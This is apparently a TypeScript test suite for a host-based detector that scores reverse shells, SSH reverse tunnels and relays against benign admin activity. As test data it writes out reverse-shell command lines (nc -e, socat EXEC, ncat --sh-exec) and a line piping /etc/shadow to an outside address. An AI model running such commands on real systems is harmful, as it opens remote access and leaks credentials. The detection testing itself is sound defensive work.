import assert from 'node:assert/strict';
import { test } from 'node:test';
import { an1230 } from '../../src/analytics/an1230.ts';
import { fitsPattern } from '../../src/analytics/an1230-trigger.ts';
import { parseEvent } from '../../src/events/parse.ts';
import type { Event } from '../../src/model/event.ts';
import type { HostEvidence } from '../../src/model/host.ts';
import { connection, execution, flowTo, judged, listener, type Process, T0, web1 } from './tunnel-host.ts';

const OUTSIDE = '203.0.113.9';
const www = { user: 'www-data', login: 'unset' };
const alice = { user: 'alice', login: 'alice', tty: 'pts0' };
const words = (line: string) => line.split(' ');
const run = (line: string, process: Partial<Process> = {}): Event => {
  const args = words(line);
  return execution({ exe: args[0].startsWith('/') ? args[0] : `/usr/bin/${args[0]}`, args, ...process });
};

const severity = (events: readonly Event[], evidence: Partial<HostEvidence> = {}, options = {}) =>
  judged(events, evidence, options)?.severity;

interface Case {
  readonly name: string;
  readonly events: readonly Event[];
  readonly evidence?: Partial<HostEvidence>;
  readonly options?: Parameters<typeof judged>[2];
  readonly expected: string | undefined;
}

const approved = {
  id: 'au1',
  hosts: ['web1'],
  users: ['alice'],
  tools: ['ssh'],
  destinations: ['10.20.0.0/24'],
  services: ['tcp/5432', 'tcp/22'],
  reason: 'database work',
};
const forward = 'ssh -L 5432:10.20.0.5:5432 10.20.0.9';
const sshd = { id: 'x', exe: '/usr/sbin/sshd' };
const developer = { host: { ...web1, isDeveloper: true } };
const shellArgs = (...args: string[]) => args;

const found: readonly Case[] = [
  {
    name: 'a reverse shell by the web server that connected outside',
    events: [
      run(`nc -e /bin/sh ${OUTSIDE} 4444`, www),
      connection({ exe: '/usr/bin/nc.traditional', ...www }, OUTSIDE, 4444),
    ],
    evidence: { destinations: [flowTo(OUTSIDE, 4444)] },
    expected: 'critical',
  },
  {
    name: 'a reverse shell of which nothing but the command line is known',
    events: [run(`nc -e /bin/sh ${OUTSIDE} 4444`, www)],
    expected: 'high',
  },
  {
    name: 'a reverse shell by an administrator',
    events: [run(`socat TCP:${OUTSIDE}:443 EXEC:/bin/bash`, alice)],
    expected: 'high',
  },
  {
    name: 'ncat with split and encoded arguments',
    events: [
      execution({
        exe: '/usr/bin/ncat',
        args: ['ncat', '--ssl', '--sh-exec', '/bin/bash -i 2>&1', OUTSIDE, '8444'],
        isSplit: true,
        ...www,
      }),
    ],
    expected: 'high',
  },
  {
    name: 'a shell beside nc in a pipe typed at a terminal',
    events: [
      run('mkfifo /tmp/f', { ...alice, pid: 600, ppid: 590 }),
      execution({
        exe: '/usr/bin/dash',
        args: shellArgs('/bin/sh', '-i'),
        ...alice,
        pid: 601,
        ppid: 590,
        atMs: T0 + 20,
      }),
      run(`nc ${OUTSIDE} 4444`, { ...alice, pid: 602, ppid: 590, atMs: T0 + 21 }),
    ],
    expected: 'high',
  },
  {
    name: 'bash connected by itself (/dev/tcp), nobody logged in',
    events: [
      execution({ exe: '/usr/bin/bash', args: ['bash', '-i'], ...www, pid: 700, ppid: 690 }),
      connection(
        { exe: '/usr/bin/bash', args: ['bash', '-i'], ...www, pid: 700, ppid: 690, atMs: T0 - 5 },
        OUTSIDE,
        443,
      ),
    ],
    expected: 'critical',
  },
  {
    name: 'a program file that connects and then starts a shell',
    events: [
      execution({
        exe: '/usr/bin/python3.13',
        args: ['python3', '/var/www/up/a.py'],
        ...www,
        pid: 800,
        ppid: 1,
      }),
      connection(
        {
          exe: '/usr/bin/python3.13',
          args: ['python3', '/var/www/up/a.py'],
          ...www,
          pid: 800,
          ppid: 1,
          atMs: T0 + 50,
        },
        OUTSIDE,
        4444,
      ),
      execution({ exe: '/usr/bin/dash', args: ['/bin/sh'], ...www, pid: 801, ppid: 800, atMs: T0 + 90 }),
    ],
    expected: 'critical',
  },
  {
    name: 'ssh -R outside by the web server',
    events: [run(`ssh -fNR 2222:localhost:22 u@${OUTSIDE}`, www)],
    evidence: { destinations: [flowTo(OUTSIDE, 22)] },
    expected: 'high',
  },
  {
    name: 'ssh -R outside by a person',
    events: [run(`ssh -R 2222:localhost:22 ${OUTSIDE}`, alice)],
    expected: 'medium',
  },
  {
    name: 'ssh -R to a name whose process connected outside',
    events: [
      run('ssh -N -R 9000:localhost:22 c2.example.net', www),
      connection({ exe: '/usr/bin/ssh', ...www }, OUTSIDE, 22),
    ],
    expected: 'high',
  },
  {
    name: 'RemoteForward in -o',
    events: [
      execution({
        exe: '/usr/bin/ssh',
        args: ['ssh', '-N', '-o', 'RemoteForward 9000 127.0.0.1:22', OUTSIDE],
        ...www,
      }),
    ],
    expected: 'medium',
  },
  { name: 'a forward without approval', events: [run(forward, alice)], expected: 'low' },
  {
    name: 'a relay between internal addresses',
    events: [run('socat TCP-LISTEN:8080,fork TCP:10.20.0.7:80', alice)],
    expected: 'low',
  },
  {
    name: 'a relay outside',
    events: [run(`socat OPENSSL-LISTEN:443,fork TCP:${OUTSIDE}:8444`, alice)],
    expected: 'medium',
  },
  {
    name: 'a relay outside started by systemd',
    events: [run(`socat TCP-LISTEN:443,fork TCP:${OUTSIDE}:8444`, { ppid: 1 })],
    expected: 'medium',
  },
  {
    name: 'a forward started by cron',
    events: [
      run(`ssh -fNR 2222:localhost:22 ${OUTSIDE}`, { ppid: 900 }),
      execution({ exe: '/usr/sbin/cron', pid: 900, ppid: 1, atMs: T0 - 90_000 }),
    ],
    expected: 'medium',
  },
  {
    name: 'a renamed chisel',
    events: [
      execution({
        exe: '/dev/shm/.k',
        args: ['/dev/shm/.k', 'client', `${OUTSIDE}:8444`, 'R:socks'],
        ...www,
      }),
    ],
    expected: 'high',
  },
  {
    name: 'a renamed socat',
    events: [
      execution({ exe: '/tmp/x', args: ['[kworker]', 'TCP-LISTEN:443,fork', `TCP:${OUTSIDE}:8444`], ...www }),
    ],
    expected: 'high',
  },
  {
    name: 'a program of a temporary folder that listens and connects outside',
    events: [
      listener({ exe: '/tmp/a', ...www, pid: 1000 }, '0.0.0.0', 9050),
      connection({ exe: '/tmp/a', ...www, pid: 1000, atMs: T0 + 1000 }, OUTSIDE, 9001),
    ],
    expected: 'high',
  },
  {
    name: 'a forward of ~/.ssh/config: ssh listens',
    events: [
      run('ssh jump', alice),
      listener({ exe: '/usr/bin/ssh', args: ['ssh', 'jump'], ...alice, atMs: T0 + 900 }, '127.0.0.1', 8080),
    ],
    expected: 'low',
  },
  {
    name: 'destination NAT to an outside address',
    events: [
      run(`iptables -t nat -A PREROUTING -p tcp --dport 443 -j DNAT --to-destination ${OUTSIDE}:8444`),
    ],
    expected: 'low',
  },
  {
    name: 'a shell for whom connects, used from outside',
    events: [run('ncat -lvkp 4444 -e /bin/bash', alice)],
    evidence: {
      contacts: [
        {
          atMs: T0 + 5000,
          source: OUTSIDE,
          destination: '10.20.0.10',
          port: 4444,
          protocol: 'tcp',
          outcome: 'established',
          seenBy: 'flow',
          packets: 30,
          raw: '',
        },
      ],
    },
    expected: 'high',
  },
  {
    name: 'a shell for whom connects',
    events: [run('ncat -lvkp 4444 -e /bin/bash', alice)],
    expected: 'medium',
  },
  {
    name: 'an approved use that has expired',
    events: [run(forward, alice)],
    evidence: { approvedUses: [{ ...approved, expiresMs: T0 - 1 }] },
    expected: 'low',
  },
  {
    name: 'further than approved',
    events: [run('ssh -L 22:10.30.0.5:3389 10.30.0.9', alice)],
    evidence: { approvedUses: [approved] },
    expected: 'low',
  },
  {
    name: 'one of two forwards is approved',
    events: [run(`ssh -L 5432:10.20.0.5:5432 -R 9000:localhost:22 10.20.0.9`, alice)],
    evidence: { approvedUses: [{ ...approved, services: ['tcp/5432'] }] },
    expected: 'low',
  },
  {
    name: 'a file piped outside',
    events: [
      execution({
        exe: '/usr/bin/dash',
        args: ['/bin/sh', '-c', `cat /etc/shadow|nc ${OUTSIDE} 3333`],
        ...www,
      }),
    ],
    expected: 'low',
  },
  {
    name: 'a pattern of the site',
    events: [run('superproxy --up', www)],
    options: { parameters: { CommandLinePattern: ['superproxy *up'] } },
    expected: 'medium',
  },
];

for (const { name, events, evidence, options, expected } of found)
  test(`found: ${name}`, () => assert.equal(severity(events, evidence, options), expected));

const history = (command: string, executable: string, user: string, login: string) => ({
  kind: 'command' as const,
  executable,
  parentExecutable: '',
  effectiveUser: user,
  loginUser: login,
  unit: '',
  command,
  count: 14,
  days: 14,
  firstAtMs: T0 - 14 * 86_400_000,
  lastAtMs: T0 - 86_400_000,
});

const silent: readonly Omit<Case, 'expected'>[] = [
  {
    name: "an administrator's ssh -L inside an approved use",
    events: [run(forward, alice)],
    evidence: { approvedUses: [approved] },
  },
  { name: 'ssh -D by a developer', events: [run('ssh -D 1080 10.20.0.9', alice)], options: developer },
  {
    name: 'a jump through a bastion',
    events: [
      run('ssh -J bastion.example.net 10.20.0.5', alice),
      run('ssh -W 10.20.0.5:22 bastion.example.net', { ...alice, pid: 501, ppid: 500 }),
    ],
  },
  {
    name: 'ansible with a control socket and a ProxyCommand',
    events: [
      execution({
        exe: '/usr/bin/ssh',
        args: [
          'ssh',
          '-C',
          '-o',
          'ControlMaster=auto',
          '-o',
          'ControlPersist=60s',
          '-o',
          'ProxyCommand=ssh -W %h:%p -q bastion',
          '-o',
          'ControlPath=/tmp/c',
          '-tt',
          '10.20.0.5',
          '/bin/sh -c "echo ~"',
        ],
        user: 'deploy',
        login: 'deploy',
      }),
    ],
  },
  {
    name: 'git over ssh',
    events: [run('ssh -o SendEnv=GIT_PROTOCOL git@203.0.113.20 git-upload-pack x', alice)],
  },
  { name: 'a health check', events: [run('nc -z -w1 10.20.0.5 5432')] },
  { name: 'a status request', events: [run('nc -w 1 10.20.0.5 11211', www)] },
  {
    name: 'a person who looks whether a port answers',
    events: [
      run(`nc -v ${OUTSIDE} 8444`, alice),
      connection({ exe: '/usr/bin/nc.openbsd', ...alice }, OUTSIDE, 8444),
    ],
  },
  {
    name: 'a look at a certificate',
    events: [
      run('openssl s_client -connect 203.0.113.20:443 -servername h', { user: 'nagios', login: 'unset' }),
    ],
  },
  {
    name: 'a metric sent by a script',
    events: [
      execution({ exe: '/usr/bin/dash', args: ['sh', '-c', 'echo "a 1" | nc -q0 203.0.113.20 2003'] }),
    ],
  },
  {
    name: 'the expiry of a certificate, by cron',
    events: [
      execution({
        exe: '/usr/bin/dash',
        args: [
          'sh',
          '-c',
          'echo | openssl s_client -connect 203.0.113.20:443 2>/dev/null | openssl x509 -noout -enddate',
        ],
      }),
      connection({ exe: '/usr/bin/openssl' }, '203.0.113.20', 443),
    ],
  },
  {
    name: 'a runner of builds that feeds a shell',
    events: [
      execution({
        exe: '/usr/bin/gitlab-runner',
        args: ['gitlab-runner', 'run'],
        pid: 1300,
        ppid: 1,
        atMs: T0 - 3_600_000,
      }),
      connection({ exe: '/usr/bin/gitlab-runner', pid: 1300, ppid: 1, atMs: T0 - 2000 }, '203.0.113.20', 443),
      execution({ exe: '/usr/bin/bash', args: ['bash'], pid: 1301, ppid: 1300 }),
    ],
  },
  {
    name: 'a program that is built and tried by its developer',
    events: [
      listener({ exe: '/tmp/go-build1/exe/main', ...alice, pid: 1400 }, '127.0.0.1', 8081),
      connection(
        { exe: '/tmp/go-build1/exe/main', ...alice, pid: 1400, atMs: T0 + 1000 },
        '203.0.113.20',
        443,
      ),
    ],
    options: developer,
  },
  {
    name: 'a unit that is started by its socket',
    events: [
      execution({
        exe: '/lib/systemd/systemd-socket-proxyd',
        args: ['systemd-socket-proxyd', '127.0.0.1:8080'],
        ppid: 1,
      }),
    ],
  },
  {
    name: 'a monitoring user without a name',
    events: [
      run('openssl s_client -connect 203.0.113.20:443', { user: '112', login: 'unset' }),
      connection({ exe: '/usr/bin/openssl', user: '112' }, '203.0.113.20', 443),
    ],
    evidence: { destinations: [flowTo('203.0.113.20', 443)] },
  },
  { name: 'kubectl port-forward', events: [run('kubectl port-forward pod/a 8080:80', alice)] },
  {
    name: 'a tunnel that a service has kept up for days',
    events: [run('autossh -M 0 -N -R 2222:localhost:22 10.20.0.9', { ppid: 1 })],
    evidence: {
      history: [history('autossh -M 0 -N -R 2222:localhost:22 10.20.0.9', '/usr/bin/autossh', 'root', '')],
    },
  },
  {
    name: 'Docker publishing a port',
    events: [
      run('/usr/sbin/iptables -t nat -A DOCKER -p tcp --dport 8080 -j DNAT --to-destination 172.17.0.2:80'),
    ],
  },
  {
    name: 'a script that waits for its database',
    events: [
      execution({ exe: '/usr/bin/bash', args: ['bash', '/app/wait-for-it.sh', 'db:5432'] }),
      connection(
        { exe: '/usr/bin/bash', args: ['bash', '/app/wait-for-it.sh', 'db:5432'], pid: 502 },
        '10.20.0.5',
        5432,
      ),
    ],
  },
  {
    name: 'a script fed to a shell by automation',
    events: [
      execution({ exe: '/usr/bin/dash', args: ['sh'], pid: 1100, ppid: 1099 }),
      run('curl -s https://203.0.113.20/install', { pid: 1101, ppid: 1099 }),
    ],
  },
  {
    name: 'a command by ssh without a terminal',
    events: [
      execution({
        exe: '/usr/bin/bash',
        args: ['bash', '-i'],
        user: 'alice',
        login: 'alice',
        pid: 1200,
        ppid: 1199,
      }),
      execution({ ...sshd, pid: 1199, ppid: 1, atMs: T0 - 1000 }),
    ],
  },
  {
    name: 'X11 forwarding and the control socket',
    events: [listener({ exe: '/usr/sbin/sshd', login: 'alice', user: 'alice' }, '127.0.0.1', 6010)],
  },
  {
    name: 'an installer of a temporary folder',
    events: [connection({ exe: '/tmp/installer', ...alice }, '203.0.113.20', 443)],
  },
  {
    name: "an ssh client's forward to the loopback of this host",
    events: [listener({ exe: '/usr/sbin/sshd', login: 'alice', user: 'alice' }, '127.0.0.1', 9000)],
  },
];

for (const { name, events, evidence, options } of silent)
  test(`silent: ${name}`, () => assert.equal(severity(events, evidence, options), undefined));

test('the verdict says who, what, where, and what was not seen', () => {
  const verdict = judged(
    [
      execution({ exe: '/usr/sbin/apache2', ...www, pid: 300, ppid: 1, atMs: T0 - 3_600_000 }),
      run(`ncat -e /bin/bash ${OUTSIDE} 4444`, { ...www, ppid: 300 }),
    ],
    { destinations: [flowTo(OUTSIDE, 4444), flowTo('203.0.113.77', 443)] },
  )!;
  assert.equal(verdict.process?.parentExecutable, '/usr/sbin/apache2');
  assert.equal(verdict.process?.user, 'www-data');
  assert.deepEqual(verdict.process?.arguments, ['ncat', '-e', '/bin/bash', OUTSIDE, '4444']);
  assert.deepEqual(
    verdict.destinations?.map(({ address }) => address),
    [OUTSIDE],
  );
  assert.deepEqual(
    verdict.stages.map(({ name }) => name),
    ['process', 'flow'],
  );
  assert.match(verdict.stages[0].raw ?? '', /type=EXECVE/);
  assert.equal(verdict.missingStages.length, 1);
  assert.match(verdict.missingStages[0], /^connection: /);
  assert.match(
    verdict.narrative,
    /www-data ran "ncat -e \/bin\/bash 203\.0\.113\.9 4444" on web1 from \/usr\/sbin\/apache2, .*900000 bytes went to 203\.0\.113\.9 \(AS64500/,
  );
  for (const wanted of [
    /ProcessUserContext/,
    /OutboundPortRange/,
    /new or rare/,
    /category vps/,
    /started by \/usr\/sbin\/apache2/,
  ])
    assert.ok(
      verdict.reasons.some(({ reason, weight }) => wanted.test(reason) && weight > 0),
      String(wanted),
    );
  assert.equal(
    verdict.score,
    Math.min(
      100,
      verdict.reasons.reduce((sum, { weight }) => sum + weight, 0),
    ),
  );
});

test('ProcessUserContext, OutboundPortRange and history each change the score by their weight', () => {
  const score = (event: Event, parameters = {}, evidence: Partial<HostEvidence> = {}) =>
    judged([event], evidence, { parameters })!.score;
  const event = run(`ssh -R 2222:localhost:22 -p 4422 ${OUTSIDE}`, { user: 'svc-x', login: 'svc-x' });
  const usual = score(event);
  assert.equal(score(event, { ProcessUserContext: ['svc-x'] }), usual + 18);
  assert.equal(score(event, { OutboundPortRange: ['50000-50100'] }), usual - 8);
  assert.equal(
    score(
      event,
      {},
      { history: [history(`ssh -R 2222:localhost:22 -p 4422 ${OUTSIDE}`, '/usr/bin/ssh', 'svc-x', 'svc-x')] },
    ),
    usual - 30,
  );
  assert.equal(
    score(
      event,
      {},
      { history: [history(`ssh -R 2222:localhost:22 -p 4422 ${OUTSIDE}`, '/usr/bin/ssh', 'other', 'other')] },
    ),
    usual,
  );
});

test('a repeated use is one question, another destination is another', () => {
  const key = (line: string, process = {}) =>
    an1230.triggeredBy(run(line, process), web1, an1230.parameters)?.key;
  assert.equal(
    key(`ssh -NR 2222:localhost:22 ${OUTSIDE}`, { pid: 1 }),
    key(`ssh -N -R2222:localhost:22 ${OUTSIDE}`, { pid: 2 }),
  );
  assert.notEqual(key(`ssh -NR 2222:localhost:22 ${OUTSIDE}`), key('ssh -NR 2222:localhost:22 203.0.113.10'));
  assert.notEqual(key(forward, alice), key(forward, www));
  assert.equal(key('ls -la'), undefined);
});

test('sudo told three times is one question', () => {
  const line = `ssh -D 1080 ${OUTSIDE}`;
  const logged = parseEvent(
    `<85>Nov  2 03:00:00 web1 sudo:    alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/${line}`,
    '10.20.0.10',
    T0,
  );
  const keys = [
    logged,
    run(`sudo ${line}`, { user: 'root', login: 'alice', tty: 'pts0' }),
    run(line, { user: 'root', login: 'alice', tty: 'pts0' }),
  ].map((event) => an1230.triggeredBy(event, web1, an1230.parameters)?.key);
  assert.deepEqual(keys, Array(3).fill(`ssh|dynamic-forward|${OUTSIDE}:22|alice`));
});

test('all of these together neither throw nor differ from run to run', () => {
  const events = [...found, ...silent].flatMap((one) => one.events);
  const evidence = {
    destinations: [flowTo(OUTSIDE, 443)],
    approvedUses: [approved],
    contacts: [],
    history: [history('ls', '/usr/bin/ls', '', '')],
  };
  assert.deepEqual(judged(events, evidence), judged(events, evidence));
  assert.equal(judged(events, evidence)?.severity, 'critical');
});

test('patterns of the site are words in order, * within a word', () => {
  assert.ok(fitsPattern('socat *EXEC:*', ['/usr/bin/socat', 'TCP:a:1', 'EXEC:/bin/sh']));
  assert.ok(fitsPattern('nc -e', ['nc', '-v', '-e', 'sh']));
  assert.ok(!fitsPattern('nc -e', ['nc', '-ev']));
  assert.ok(!fitsPattern('', ['nc']));
  assert.ok(!fitsPattern('a*bc*c', ['abc']));
  assert.ok(fitsPattern('*a*a*a*b', [`${'a'.repeat(999)}b`]));
});

test("a host's ordinary executions cost little", () => {
  const events = [
    run('ls -la /var/www'),
    run('/usr/bin/python3 /opt/app/worker.py --queue a:b'),
    execution({ exe: '/usr/bin/dash', args: ['sh', '-c', 'test -f /etc/a && echo b || true'] }),
  ];
  const began = process.hrtime.bigint();
  for (let round = 0; round < 10_000; round++)
    for (const event of events) assert.equal(an1230.triggeredBy(event, web1, an1230.parameters), undefined);
  const microseconds = Number(process.hrtime.bigint() - began) / 1000 / 30_000;
  assert.ok(microseconds < 200, `${microseconds} us an event`);
});
